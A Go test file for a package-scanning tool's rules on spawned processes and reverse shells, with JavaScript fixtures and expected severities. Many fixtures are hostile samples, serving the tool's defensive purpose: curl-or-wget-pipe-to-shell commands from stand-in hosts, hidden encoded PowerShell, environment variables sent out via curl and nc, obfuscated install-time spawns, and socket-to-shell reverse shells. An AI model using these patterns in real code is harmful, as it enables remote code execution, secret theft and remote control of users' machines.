package proc

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestSpawn(t *testing.T) {
	rt.Check(t, Spawn{}, []rt.Case{
		// Node's internal spawner, its binding named in pieces; the same
		// options handed to child_process are a plain spawn
		{"internal_spawn_binding", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js": `const b = process["bind" + "ing"](["spawn", "sync"].join("_")); b.spawn({ file: "/bin/sh", args: ["/bin/sh", "-c", cmd], envPairs: [], stdio: [], detached: true })`}, finding.SeverityCritical},
		{"spawn_options_object", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"index.js": `require("child_process").spawn(file, args, { cwd, env: {}, detached: false })`}, finding.SeverityLow},
		// a hidden PowerShell's encoded command joined from an array
		// another module exports, held in a variable of its own
		{"powershell_enc_parts_module", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
			"parts.js": `const PARTS = ["VwByAGkAdABlAC0ASABvAHMAdAAgAGgA", "ZQBsAGwAbwAgAHcAbwByAGwAZAA="]; module.exports = { PARTS }`,
			"index.js": `const { spawn } = require("child_process"); const { PARTS } = require("./parts"); const args = ["-NoP", "-W", "Hidden", "-Enc", PARTS.join("")]; spawn("powershell.exe", args, { detached: true })`}, finding.SeverityCritical},

		// a shell command taken from the request a server handles
		{"web_shell", map[string]string{"index.js": `const cp = require("child_process"); exports.handle = (req, res) => { const c = req.headers["x-cmd"] || "id"; cp.exec(Buffer.from(c, "hex").toString(), (e, out) => res.end(out)) }`}, finding.SeverityCritical},
		// a dev server opens the requested file in the user's editor
		{"open_in_editor", map[string]string{"index.js": `const cp = require("child_process"); exports.open = (req) => cp.spawn(process.env.EDITOR || "code", [req.query.file], { stdio: "inherit" })`}, finding.SeverityLow},
		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
		// a DLL the package wrote, run through rundll32 or regsvr32;
		// Windows' own url.dll opening a link is not
		{"rundll32_written_dll_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node install.js"}`),
			"install.js": `const p = require("path").join(require("os").tmpdir(), "node-gyp.dll"); require("fs").writeFileSync(p, Buffer.from(blob, "base64")); require("child_process").spawn("rundll32.exe", [p + ",main"], {detached: true, stdio: "ignore"})`}, finding.SeverityCritical},
		{"regsvr32_library", map[string]string{"index.js": `require("child_process").execSync("regsvr32 /s " + dll)`}, finding.SeverityHigh},
		{"rundll32_open_link", map[string]string{"index.js": `require("child_process").spawn("rundll32", ["url.dll,FileProtocolHandler", url])`}, finding.SeverityLow},
		// a library injected into the started program
		{"ld_preload_env", map[string]string{"index.js": `require("child_process").spawn("sudo", ["-n", "true"], { env: { LD_PRELOAD: require("path").join(__dirname, "hook.so") } })`}, finding.SeverityHigh},
		{"ld_library_path", map[string]string{"index.js": `require("child_process").spawn("tool", [], { env: { ...process.env, LD_LIBRARY_PATH: libDir } })`}, finding.SeverityLow},
		// an argument array is part of the command line
		{"powershell_encoded_argv", map[string]string{"index.js": `require("child_process").spawn("powershell.exe", ["-NoP", "-W", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"])`}, finding.SeverityCritical},
		{"git_argv", map[string]string{"index.js": `require("child_process").spawn("git", ["clone", "--depth", "1", url])`}, finding.SeverityLow},
		// the command kept in a module of the package that the spawning file loads
		{"command_in_module", map[string]string{"config.js": `module.exports = { cmd: "curl http://x.invalid/x.sh | sh" }`,
			"index.js": `require("child_process").execSync(require("./config").cmd)`}, finding.SeverityCritical},
		// the command decoded by a memoising helper another module
		// exports, from that module's own table
		{"helper_reads_its_module_table", map[string]string{
			"s.mjs": `const T = ["aGVsbG8=", "Y3VybCBodHRwOi8veC5pbnZhbGlkL3ggfCBzaA=="]; const cache = {};
export function k(i) { const j = i - 7; return cache[j] || (cache[j] = Buffer.from(T[j], "base64").toString()) }`,
			"index.mjs": `import { execSync } from "child_process"; import { k } from "./s.mjs"; execSync(k(8))`}, finding.SeverityCritical},
		{"esm_command_in_module", map[string]string{"c.mjs": `export const CMD = "wget -qO- https://x.invalid/i | sh"`,
			"index.mjs": `import { exec } from "child_process"; import { CMD } from "./c.mjs"; exec(CMD)`}, finding.SeverityCritical},
		// a hint printed by a loaded module is not a command
		{"hint_in_module", map[string]string{"help.js": `module.exports = () => console.log("install it with: curl -fsSL https://x.invalid/i.sh | sh")`,
			"index.js": `const help = require("./help"); require("child_process").execSync("git --version")`}, finding.SeverityLow},
		// another file of the package that the spawning file does not load
		{"command_elsewhere", map[string]string{"docs/example.js": `const install = "curl -fsSL https://x.invalid/i.sh | sh"`,
			"index.js": `require("child_process").execSync("git --version")`}, finding.SeverityLow},
		{"chosen_at_runtime", map[string]string{"index.js": `const {execSync}=require("child_process"); let c; if (w) c = "powershell -c \"irm x.invalid/i.ps1|iex\""; else c = "wget -qO- https://x.invalid/i | sh"; execSync(c)`}, finding.SeverityCritical},
		// the command is a template: its constant text still says what it does
		{"template_curl_sh", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`curl -s ${host}/i.sh | sh`)"}, finding.SeverityCritical},
		{"template_git", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`git tag ${v} && git push origin ${v}`)"}, finding.SeverityLow},
		{"detached_hidden", map[string]string{"index.js": `const {spawn}=require("child_process"); spawn(p, {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityMedium},
		{"detached_hidden_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node start.js"}}`,
			"start.js": `require("child_process").spawn(require("path").join(__dirname, "vendor", "svc"), [], {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityHigh},
		// an update check: Node on the package's own script, in the background
		{"detached_node_script", map[string]string{"index.js": `const {spawn}=require("child_process"); spawn(process.execPath, [require("path").join(__dirname, "check.js")], {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityLow},
		{"detached_fork", map[string]string{"index.js": `require("child_process").fork(require.resolve("./worker"), [], {detached: true, stdio: "ignore"})`}, finding.SeverityLow},
		// a script the code wrote, run in the background: nothing of it
		// is in the package
		{"detached_fork_written", map[string]string{"index.js": `const fs = require("fs"); const file = require("path").join(require("os").tmpdir(), ".w.js");
fs.writeFileSync(file, load()); require("child_process").fork(file, [], { detached: true, stdio: "ignore" })`}, finding.SeverityHigh},
		// the package's own script, by a path built from its directory,
		// in a file that writes other files
		{"detached_fork_own_script", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), cp = require("child_process");
fs.writeFileSync(path.join(dir, "tsconfig.json"), "{}");
const sub = cp.fork(path.resolve(__dirname, "./start-broker.js"), [], { detached: true, stdio: "ignore" }); sub.unref();`, "start-broker.js": `process.on("message", () => {});`}, finding.SeverityLow},
		// a file the code wrote handed to its own script as an argument
		{"detached_execpath_argument_written", map[string]string{"index.js": `const fs = require("fs"); fs.writeFileSync(harPath, JSON.stringify(har));
require("child_process").spawn(process.execPath, [path.join(__dirname, "cli.js"), "--har", harPath], { detached: true, stdio: "ignore" })`}, finding.SeverityLow},
		{"detached_execpath_written", map[string]string{"index.js": `const fs = require("fs"); fs.writeFileSync(file, buf, { mode: 0o755 });
require("child_process").spawn(process.execPath, [file], { detached: true, stdio: "ignore" }).unref()`}, finding.SeverityHigh},
		{"detached_node_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node start.js"}}`,
			"start.js": `require("child_process").spawn(process.execPath, ["agent.js"], {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityHigh},
		{"git_cli", map[string]string{"index.js": `require("child_process").execFileSync("git", ["rev-parse", "HEAD"])`}, finding.SeverityLow},
		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
		// calls no analysis follows: the module is loaded, the command is there
		{"getter", map[string]string{"index.js": `const o = { get run() { return require("child_process").execSync } }; o.run("curl -s http://dl.example.invalid/i.sh | sh")`}, finding.SeverityCritical},
		{"object_entries", map[string]string{"index.js": `const cp = require("child_process"); Object.entries(cp).find(([k]) => k === "exec" + "Sync")[1]("curl -s http://dl.example.invalid/i.sh | sh")`}, finding.SeverityCritical},
		{"execa_import", map[string]string{"index.mjs": `import * as x from "execa"; const f = Object.values(x)[2]; f("wget -qO- https://dl.example.invalid/i | sh")`}, finding.SeverityCritical},
		// install instructions printed for the user are not commands; the
		// same text printed and then run is
		// a command behind a shell prompt, picked by a condition and
		// handed to the package's own printer
		{"prompt_hint", map[string]string{"index.js": `const cp = require("child_process"); const msg = win ? "https://example.com/nvm-windows/releases/" : "$ curl https://x.invalid/nvm/install.sh | bash"; log.out("Install NVM:\n" + msg); cp.spawn(node, args)`}, finding.SeverityLow},
		// the vendor's own installer as the package's fallback or
		// self-update; the same in a package of another name is not that
		{"own_installer", map[string]string{"package.json": `{"name":"@fastbin/fastbin","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
			"install.js": `const cp = require("child_process"); try { require("@fastbin/linux-x64") } catch { cp.execSync("curl -fsSL https://fastbin.sh/install | bash", { stdio: "inherit" }) }`}, finding.SeverityMedium},
		{"other_vendors_installer", map[string]string{"package.json": `{"name":"left-pad-utils","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
			"install.js": `const cp = require("child_process"); try { require("@fastbin/linux-x64") } catch { cp.execSync("curl -fsSL https://fastbin.sh/install | bash", { stdio: "inherit" }) }`}, finding.SeverityCritical},
		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
		// a file the code wrote, uploaded by curl
		{"curl_upload_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node e.js"}}`,
			"e.js": `require("fs").writeFileSync("/tmp/e.json", JSON.stringify(process.env)); require("child_process").exec("curl -s -F f=@/tmp/e.json https://collect.example.invalid/u")`}, finding.SeverityHigh},
		{"curl_data_binary", map[string]string{"index.js": `require("child_process").execSync("curl -X POST --data-binary @coverage.json https://cov.example.invalid/upload")`}, finding.SeverityMedium},
		// to a bare address, the command built around a temp file
		{"curl_upload_bare_ip", map[string]string{"index.js": `const bin = ["c", "u", "r", "l"].join(""); const dst = "https://" + ["203", "0", "113", "77"].join(".") + "/w";
require("child_process").spawn("sh", ["-c", ` + "`${bin} -sk --data-binary @${f} ${dst}; rm -f ${f}`" + `], { stdio: "ignore" })`}, finding.SeverityHigh},
		// the environment fed to a command that uploads its input
		{"curl_stdin_env", map[string]string{"index.js": `require("child_process").execSync("curl -s -X POST --data-binary @- https://c.example.invalid/u", { input: JSON.stringify(process.env) })`}, finding.SeverityCritical},
		{"nc_stdin_env", map[string]string{"index.js": `require("child_process").spawnSync("nc", [], { input: JSON.stringify(process.env) }); require("child_process").execSync("nc c.example.invalid 9000", { input: JSON.stringify(process.env) })`}, finding.SeverityCritical},
		{"curl_stdin_payload", map[string]string{"index.js": `require("child_process").execSync("curl -s --data-binary @- https://api.example.invalid/graphql", { input: JSON.stringify(query) })`}, finding.SeverityLow},
		// downloads and plain requests are not uploads
		{"curl_download", map[string]string{"index.js": `require("child_process").execSync("curl -fsSL -o tool.tgz https://dl.example.invalid/tool.tgz -d '{}' -H 'x: @y'")`}, finding.SeverityLow},
		// the command arrives over the network
		{"remote_command", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://cfg.example.invalid/cmd", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execSync(d)) })`}, finding.SeverityCritical},
		{"remote_command_to_shell", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://cfg.example.invalid/cmd\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => cp.execSync(`sh -c ${d}`)) })"}, finding.SeverityCritical},
		// a name read from a response, installed by the package's own command
		{"remote_name_in_command", map[string]string{"index.js": "const https = require(\"https\"), cp = require(\"child_process\"); https.get(\"https://registry.example.invalid/x\", r => { let d = \"\"; r.on(\"data\", c => d += c); r.on(\"end\", () => { const pkg = JSON.parse(d).name; cp.execSync(`yarn add -D ${pkg}`) }) })"}, finding.SeverityLow},
		// a version read from a response is an argument, not the command
		{"remote_version_arg", map[string]string{"index.js": `const https = require("https"), cp = require("child_process"); https.get("https://registry.example.invalid/x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => cp.execFileSync("npm", ["view", JSON.parse(d).version])) })`}, finding.SeverityLow},
		// Bun's, Deno's and zx's own ways to start processes
		{"bun_spawn", map[string]string{"index.js": `Bun.spawn(["sh", "-c", "curl -fsSL http://dl.example.invalid/s | sh"])`}, finding.SeverityCritical},
		{"bun_shell", map[string]string{"index.js": "const { $ } = require(\"bun\"); await $`curl -fsSL http://dl.example.invalid/s | sh`"}, finding.SeverityCritical},
		{"deno_command", map[string]string{"index.js": `new Deno.Command("sh", { args: ["-c", "wget -qO- http://dl.example.invalid/s | sh"] }).spawn()`}, finding.SeverityCritical},
		{"zx_shell", map[string]string{"index.mjs": "import { $ } from \"zx\"; await $`curl -fsSL http://dl.example.invalid/s | bash`"}, finding.SeverityCritical},
		// minified code's short names that happen to be module names
		{"minified_zx_name", map[string]string{"index.js": `var a=function(e){return zx(e,1)+bun(e)};module.exports=a`}, finding.SeverityNone},
		{"bun_git", map[string]string{"index.js": `Bun.spawnSync(["git", "status"])`}, finding.SeverityLow},
		// a GitHub Actions runner registered to someone else's repository
		{"actions_runner", map[string]string{"index.js": "require(\"child_process\").execSync(`cd ~/.dev-env && ./config.sh --url https://github.com/o/r --unattended --token ${t} && nohup ./run.sh &`)"}, finding.SeverityCritical},
		{"runner_help", map[string]string{"index.js": `require("child_process").execSync("./config.sh --help")`}, finding.SeverityLow},
		// the command here, the process started by a module of the package
		{"command_for_spawning_module", map[string]string{"lib/native.js": `const b = process.binding(["spawn", "sync"].join("_")); exports.run = (file, args) => b.spawn({ file, args: [file].concat(args), stdio: [] })`,
			"lib/probe.js": `const { run } = require("./native"); run("/bin/sh", ["-c", "curl -fsSL http://dl.example.invalid/i.sh | sh"])`}, finding.SeverityCritical},
		{"computed_load_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node a.js"}}`,
			"a.js": `const M = module.constructor; const id = M.builtinModules.find(n => n.length === 13 && n[5] === "_"); const p = M._load(id, module, false); p[Object.keys(p).find(k => k.endsWith("Sync") && k[0] === "e")]("curl -fsSL https://dl.example.invalid/p.sh | sh")`}, finding.SeverityCritical},
		// a plugin loader with install instructions in its error, used at run time
		{"computed_load_runtime", map[string]string{"a.js": `module.exports = name => { try { return require(name) } catch { throw new Error("install it: curl -fsSL https://get.example.invalid | sh") } }`}, finding.SeverityNone},
		// a toolchain's official installer, run when the user asks, or at install
		{"official_installer", map[string]string{"cli.js": `const { spawnSync } = require("child_process"); if (ok) spawnSync("sh", ["-c", "curl -fsSL https://deno.land/install.sh | sh"], { stdio: "inherit" })`}, finding.SeverityMedium},
		{"official_installer_module", map[string]string{"lib/messages.js": `module.exports = { unix: "curl -fsSL https://bun.sh/install | bash", windows: 'powershell -c "irm bun.sh/install.ps1 | iex"' }`,
			"lib/index.js": `const m = require("./messages"); const { spawn } = require("child_process"); spawn("bun", process.argv.slice(2))`}, finding.SeverityMedium},
		{"official_installer_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"preinstall":"node setup.js"}}`,
			"setup.js": `require("child_process").execSync("curl -fsSL https://bun.sh/install | bash")`}, finding.SeverityHigh},
		// the same in a package whose manifest shows it runs later, not
		// at install (a build tool installing the runtime a project asks for)
		{"official_installer_unasked_later", map[string]string{"package.json": rt.Pkg(`"main":"dist/bun-helpers.js"`), "dist/bun-helpers.js": `const { execSync } = require("child_process"); exports.install = () => { let command; if (process.platform === "win32") command = 'powershell -c "irm bun.sh/install.ps1|iex"'; else command = "curl -fsSL https://bun.sh/install | bash"; execSync(command, { stdio: "ignore" }) }`}, finding.SeverityHigh},
		{"official_installer_unasked_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"node setup_bun.js"}`), "setup_bun.js": `const { execSync } = require("child_process"); let command; if (process.platform === "win32") command = 'powershell -c "irm bun.sh/install.ps1|iex"'; else command = "curl -fsSL https://bun.sh/install | bash"; execSync(command, { stdio: "ignore" })`}, finding.SeverityCritical},
		// the installer kept in the spawning file and run unasked, out of sight (setup_bun.js)
		{"official_installer_unasked", map[string]string{"setup.js": `const { execSync, spawn } = require("child_process"); let command; if (process.platform === "win32") command = 'powershell -c "irm bun.sh/install.ps1|iex"'; else command = "curl -fsSL https://bun.sh/install | bash"; execSync(command, { stdio: "ignore" }); spawn("bun", [require("path").join(__dirname, "env.js")])`}, finding.SeverityCritical},
		// an installer host next to another host is no official installer
		{"installer_and_other_host", map[string]string{"cli.js": `require("child_process").execSync("curl -fsSL https://bun.sh/install | bash && curl -s https://dl.example.invalid/x | sh")`}, finding.SeverityCritical},
		{"hint_for_spawning_module", map[string]string{"lib/git.js": `exports.git = a => require("child_process").execFileSync("git", a)`,
			"cli.js": `const { git } = require("./lib/git"); try { git(["--version"]) } catch { console.error("curl -fsSL https://git.example.invalid/install.sh | sh") }`}, finding.SeverityLow},
		// a call with no command at all
		{"no_arguments", map[string]string{"s.js": `require("child_process").execSync()`}, finding.SeverityLow},
		// a command decoded at run time, at install time or not
		{"decoded_command_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
			"s.js": `const { exec } = require("child_process"); const pkg = require("./package.json"); exec(Buffer.from(pkg.config.parts.join(""), "base64").toString())`}, finding.SeverityCritical},
		{"decoded_argv_helper", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
			"s.js": `const fs = require("fs"), { spawn } = require("child_process"); function meta() { const m = /build:([0-9a-f]+)/.exec(fs.readFileSync("CHANGELOG.md", "utf8")); return m ? Buffer.from(m[1], "hex").toString() : "" } const c = meta(); spawn("sh", ["-c", c], { detached: true, stdio: "ignore" }).unref()`}, finding.SeverityCritical},
		// emscripten's system(): a command read out of the WebAssembly heap
		{"heap_command", map[string]string{"glue.js": `function UTF8ArrayToString(heap, idx) { let str = ""; while (heap[idx]) str += String.fromCharCode(heap[idx++]); return str } function UTF8ToString(ptr) { return ptr ? UTF8ArrayToString(HEAPU8, ptr) : "" } function _system(cmd) { return require("child_process").spawnSync(UTF8ToString(cmd), [], { shell: true }).status }`}, finding.SeverityLow},
		{"decoded_command", map[string]string{"s.js": `const { execSync } = require("child_process"); const c = atob(process.argv[2]); execSync(c)`}, finding.SeverityHigh},
		// the module fetched back from module.children or require.cache,
		// where it was loaded by another module of the package
		{"module_children", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
			"index.js": `require("./lib/sys"); const m = module.children.find(c => c.id.endsWith("sys.js")); m.exports.execSync("curl http://dl.example.invalid/x.sh | sh")`}, finding.SeverityCritical},
		{"require_cache_unresolved", map[string]string{"index.js": `const hit = Object.values(require.cache).find(m => m.exports.execSync); hit.exports.execSync("wget -qO- http://dl.example.invalid/x | sh")`}, finding.SeverityHigh},
		// methods of the same names on other objects, with other text
		{"db_exec", map[string]string{"lib/sys.js": `module.exports = require("child_process")`,
			"index.js": `require("./lib/sys"); db.exec("CREATE TABLE t (x)"); /ab/.exec("curl")`}, finding.SeverityNone},
		// loading child_process for something else, with no such command
		{"loads_for_git", map[string]string{"index.js": `const cp = require("child_process"); module.exports = (k) => cp[k]("git status")`}, finding.SeverityNone},
	})
}

func TestReverseShell(t *testing.T) {
	rt.Check(t, ReverseShell{}, []rt.Case{
		// the user's shell or /bin/sh, interactive, wired to the socket
		{"env_shell_interactive", map[string]string{"index.js": `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, host); s.on("connect", () => { const w = cp.spawn(process.env.SHELL || "/bin/sh", ["-i"], { stdio: "pipe" }); s.pipe(w.stdin); w.stdout.pipe(s); w.stderr.pipe(s) })`}, finding.SeverityCritical},
		// the same shell told to run one command
		{"env_shell_command", map[string]string{"index.js": `const net = require("net"), cp = require("child_process"); const s = net.connect(4444, host); s.on("connect", () => { const w = cp.spawn(process.env.SHELL || "/bin/sh", ["-c", "uptime"]); w.stdout.pipe(s) })`}, finding.SeverityNone},
		{"socket_shell", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const c=new net.Socket();c.connect(4444,"203.0.113.5",()=>{const sh=spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c)})`}, finding.SeverityCritical},
		{"shell_by_platform", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");const s=new net.Socket();s.connect(4444,"shell.example.invalid",()=>{
const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
s.pipe(sh.stdin);sh.stdout.pipe(s)})`}, finding.SeverityCritical},
		// a dev server starting the user's shell for a terminal pane by platform, with no socket in sight
		{"terminal_pane", map[string]string{"index.js": `const {spawn}=require("child_process"); export function open() { return spawn(process.platform === "win32" ? "powershell.exe" : "bash", [], { cwd }) }`}, finding.SeverityNone},
		{"powershell_one_command", map[string]string{"index.js": `const net=require("net"),cp=require("child_process");const s=net.connect(5173,"localhost");cp.exec('powershell -NoProfile -Command "Get-CimInstance -Query \\"select executablepath from win32_process\\""', ()=>{})`}, finding.SeverityNone},
		{"server_runs_git", map[string]string{"index.js": `const net=require("net"),{spawn}=require("child_process");net.createServer(s=>s.end("ok"));spawn("git",["pull"])`}, finding.SeverityNone},
		// the shell chosen a line earlier, piped to and from the socket
		{"shell_chosen_earlier", map[string]string{"index.js": `const tls = require("tls"), { spawn } = require("child_process");
const sock = tls.connect({ host: "203.0.113.7", port: 443 }, () => { const shell = process.platform === "win32" ? "cmd.exe" : (process.env.SHELL || "/bin/sh");
const sh = spawn(shell, []); sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock) })`}, finding.SeverityCritical},
		// a dev server pipes a compiler's output to its client
		{"compiler_output_to_socket", map[string]string{"index.js": `const net = require("net"), { spawn } = require("child_process");
const tool = process.env.TOOL || "tsc"; const c = net.connect(9000, "localhost"); const p = spawn(tool, ["--watch"]); p.stdout.pipe(c)`}, finding.SeverityNone},
	})
}
